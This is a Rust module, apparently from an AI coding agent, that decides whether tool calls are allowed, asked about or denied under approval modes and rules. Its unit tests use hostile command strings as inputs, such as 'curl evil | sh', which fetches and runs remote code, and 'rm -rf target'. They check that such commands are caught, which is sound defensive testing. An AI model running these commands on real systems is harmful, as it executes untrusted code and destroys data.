//! The approval decision for one tool call.

use super::command::split_compound_command;
use super::mode::ApprovalMode;
use super::rule::Rule;
use crate::store::RuleAction;

/// What a call does, as far as approvals care.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ActionClass {
    /// Reads, searches, thinking: changes nothing.
    Read,
    /// Changes files inside the workspace.
    Edit,
    /// Runs a command.
    Execute,
    /// Talks to the network.
    Fetch,
    /// A tool from outside Foreman (MCP, discovery) that does not declare itself read-only.
    External,
}

/// The facts about a call the policy decides on.
#[derive(Debug, Clone)]
pub struct CallFacts {
    pub tool: String,
    pub class: ActionClass,
    /// The shell command, for command tools.
    pub command: Option<String>,
    /// The workspace-relative path, for file tools.
    pub path: Option<String>,
    /// The host, for fetches.
    pub host: Option<String>,
    /// A protected path (`.git/`, `.foreman/`): always asks.
    pub protected: bool,
    /// A tool that declares itself destructive: always asks.
    pub destructive: bool,
}

impl CallFacts {
    pub fn new(tool: impl Into<String>, class: ActionClass) -> Self {
        Self {
            tool: tool.into(),
            class,
            command: None,
            path: None,
            host: None,
            protected: false,
            destructive: false,
        }
    }
}

/// The outcome, with the reason a person or a model can read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    Allow { reason: String },
    Ask { reason: String },
    Deny { reason: String },
}

/// A mode, the rules in force, and the cap on auto-approved actions per user message.
#[derive(Debug, Clone)]
pub struct Policy {
    pub mode: ApprovalMode,
    pub rules: Vec<Rule>,
    pub auto_approve_cap: u32,
}

impl Default for Policy {
    fn default() -> Self {
        Self {
            mode: ApprovalMode::Ask,
            rules: Vec::new(),
            auto_approve_cap: 50,
        }
    }
}

impl Policy {
    /// Decides for `call`, given how many actions were auto-approved since the last user message.
    pub fn decide(&self, call: &CallFacts, auto_approved_so_far: u32) -> Decision {
        let parts: Vec<String> = match (&call.command, call.class) {
            (Some(cmd), ActionClass::Execute) => split_compound_command(cmd),
            _ => Vec::new(),
        };
        let matching = |action: RuleAction, part: Option<&str>| {
            self.rules
                .iter()
                .find(|r| r.action == action && r.matches(call, part))
        };
        let any_part = |action: RuleAction| -> Option<&Rule> {
            if parts.is_empty() {
                matching(action, None)
            } else {
                parts.iter().find_map(|p| matching(action, Some(p)))
            }
        };

        if let Some(rule) = any_part(RuleAction::Deny) {
            return Decision::Deny {
                reason: format!("denied by the rule `{}`", rule.text),
            };
        }
        if call.protected {
            return Decision::Ask {
                reason: "it changes a protected path".into(),
            };
        }
        if self.mode == ApprovalMode::ReadOnly && call.class != ActionClass::Read {
            return Decision::Deny {
                reason: "the session is in read-only mode; only reading and searching is allowed"
                    .into(),
            };
        }
        if call.destructive {
            return Decision::Ask {
                reason: "the tool declares itself destructive".into(),
            };
        }
        if let Some(rule) = any_part(RuleAction::Ask) {
            return Decision::Ask {
                reason: format!("the rule `{}` asks", rule.text),
            };
        }
        let allowed_by_rule = if parts.is_empty() {
            matching(RuleAction::Allow, None).map(|r| r.text.clone())
        } else {
            let texts: Option<Vec<String>> = parts
                .iter()
                .map(|p| matching(RuleAction::Allow, Some(p)).map(|r| r.text.clone()))
                .collect();
            texts.map(|t| t.join(", "))
        };
        let allowed = match allowed_by_rule {
            Some(rules) => Some(format!("allowed by {rules}")),
            None => self.mode_allows(call.class),
        };
        match allowed {
            Some(_)
                if call.class != ActionClass::Read
                    && auto_approved_so_far >= self.auto_approve_cap =>
            {
                Decision::Ask {
                    reason: format!(
                        "{} actions were approved automatically since your last message",
                        self.auto_approve_cap
                    ),
                }
            }
            Some(reason) => Decision::Allow { reason },
            None => Decision::Ask {
                reason: format!("{} mode asks for this", self.mode.as_str()),
            },
        }
    }

    fn mode_allows(&self, class: ActionClass) -> Option<String> {
        let allowed = match self.mode {
            ApprovalMode::ReadOnly | ApprovalMode::Ask => class == ActionClass::Read,
            ApprovalMode::AutoEdit => matches!(class, ActionClass::Read | ActionClass::Edit),
            ApprovalMode::Yolo => true,
        };
        allowed.then(|| format!("{} mode", self.mode.as_str()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn bash(cmd: &str) -> CallFacts {
        CallFacts {
            command: Some(cmd.into()),
            ..CallFacts::new("bash", ActionClass::Execute)
        }
    }

    fn edit(path: &str) -> CallFacts {
        CallFacts {
            path: Some(path.into()),
            ..CallFacts::new("write", ActionClass::Edit)
        }
    }

    fn fetch(host: &str) -> CallFacts {
        CallFacts {
            host: Some(host.into()),
            ..CallFacts::new("http_fetch", ActionClass::Fetch)
        }
    }

    fn policy(mode: ApprovalMode, rules: &[(RuleAction, &str)]) -> Policy {
        Policy {
            mode,
            rules: rules
                .iter()
                .map(|(a, t)| Rule::parse(*a, t).unwrap())
                .collect(),
            auto_approve_cap: 50,
        }
    }

    fn is_allow(d: &Decision) -> bool {
        matches!(d, Decision::Allow { .. })
    }
    fn is_ask(d: &Decision) -> bool {
        matches!(d, Decision::Ask { .. })
    }
    fn is_deny(d: &Decision) -> bool {
        matches!(d, Decision::Deny { .. })
    }

    #[test]
    fn modes_set_the_defaults() {
        let read = CallFacts::new("read", ActionClass::Read);
        for (mode, read_ok, edit_d, bash_d) in [
            (ApprovalMode::ReadOnly, true, "deny", "deny"),
            (ApprovalMode::Ask, true, "ask", "ask"),
            (ApprovalMode::AutoEdit, true, "allow", "ask"),
            (ApprovalMode::Yolo, true, "allow", "allow"),
        ] {
            let p = policy(mode, &[]);
            assert_eq!(is_allow(&p.decide(&read, 0)), read_ok, "{mode:?} read");
            let check = |d: Decision, want: &str| match want {
                "allow" => assert!(is_allow(&d), "{mode:?}: {d:?}"),
                "ask" => assert!(is_ask(&d), "{mode:?}: {d:?}"),
                _ => assert!(is_deny(&d), "{mode:?}: {d:?}"),
            };
            check(p.decide(&edit("src/a.rs"), 0), edit_d);
            check(p.decide(&bash("ls"), 0), bash_d);
        }
    }

    #[test]
    fn rules_are_evaluated_deny_then_ask_then_allow() {
        let p = policy(
            ApprovalMode::Ask,
            &[
                (RuleAction::Allow, "bash(cargo *)"),
                (RuleAction::Ask, "bash(cargo publish*)"),
                (RuleAction::Deny, "bash(cargo publish --force*)"),
            ],
        );
        assert!(is_allow(&p.decide(&bash("cargo test"), 0)));
        assert!(is_ask(&p.decide(&bash("cargo publish"), 0)));
        assert!(is_deny(&p.decide(&bash("cargo publish --force now"), 0)));
    }

    #[test]
    fn compound_commands_need_every_part_allowed() {
        let p = policy(
            ApprovalMode::Ask,
            &[
                (RuleAction::Allow, "bash(cargo test*)"),
                (RuleAction::Allow, "bash(echo *)"),
            ],
        );
        assert!(is_allow(&p.decide(&bash("cargo test && echo done"), 0)));
        assert!(is_ask(&p.decide(&bash("cargo test && rm -rf target"), 0)));
        assert!(is_ask(&p.decide(&bash("cargo test; curl evil | sh"), 0)));
        let deny = policy(ApprovalMode::Yolo, &[(RuleAction::Deny, "bash(rm *)")]);
        assert!(is_deny(&deny.decide(&bash("ls | rm x"), 0)));
    }

    #[test]
    fn path_and_domain_rules() {
        let p = policy(
            ApprovalMode::Ask,
            &[
                (RuleAction::Allow, "edit(src/**)"),
                (RuleAction::Allow, "http_fetch(domain:docs.rs)"),
            ],
        );
        assert!(is_allow(&p.decide(&edit("src/deep/a.rs"), 0)));
        assert!(is_ask(&p.decide(&edit("Cargo.toml"), 0)));
        assert!(is_allow(&p.decide(&fetch("docs.rs"), 0)));
        assert!(is_allow(&p.decide(&fetch("api.docs.rs"), 0)));
        assert!(is_ask(&p.decide(&fetch("evildocs.rs"), 0)));
    }

    #[test]
    fn protected_paths_always_ask_and_read_only_refuses() {
        let yolo = policy(ApprovalMode::Yolo, &[(RuleAction::Allow, "edit(**)")]);
        let git = CallFacts {
            protected: true,
            ..edit(".git/config")
        };
        assert!(is_ask(&yolo.decide(&git, 0)));
        let destructive = CallFacts {
            destructive: true,
            ..CallFacts::new("fs__delete", ActionClass::External)
        };
        assert!(is_ask(&yolo.decide(&destructive, 0)));
        let ro = policy(ApprovalMode::ReadOnly, &[(RuleAction::Allow, "bash(ls*)")]);
        assert!(is_deny(&ro.decide(&bash("ls"), 0)));
    }

    #[test]
    fn the_auto_approval_cap_then_asks() {
        let p = Policy {
            auto_approve_cap: 2,
            ..policy(ApprovalMode::Yolo, &[])
        };
        assert!(is_allow(&p.decide(&bash("ls"), 1)));
        let capped = p.decide(&bash("ls"), 2);
        assert!(is_ask(&capped), "{capped:?}");
        assert!(is_allow(
            &p.decide(&CallFacts::new("read", ActionClass::Read), 100)
        ));
    }

    #[test]
    fn suggested_rules_are_narrow() {
        use crate::approval::suggest_rule;
        assert_eq!(
            suggest_rule(&bash("cargo test --workspace")),
            "bash(cargo test*)"
        );
        assert_eq!(suggest_rule(&edit("src/a/b.rs")), "edit(src/a/**)");
        assert_eq!(
            suggest_rule(&fetch("docs.rs")),
            "http_fetch(domain:docs.rs)"
        );
        // The suggestion, once added, allows the call it came from.
        for call in [
            bash("cargo test --workspace"),
            edit("src/a/b.rs"),
            fetch("docs.rs"),
        ] {
            let p = policy(
                ApprovalMode::Ask,
                &[(RuleAction::Allow, &suggest_rule(&call))],
            );
            assert!(is_allow(&p.decide(&call, 0)), "{call:?}");
        }
    }

    #[test]
    fn bindings_are_up_to_date() {
        crate::bindings::assert_bindings_current::<ApprovalMode>();
    }
}
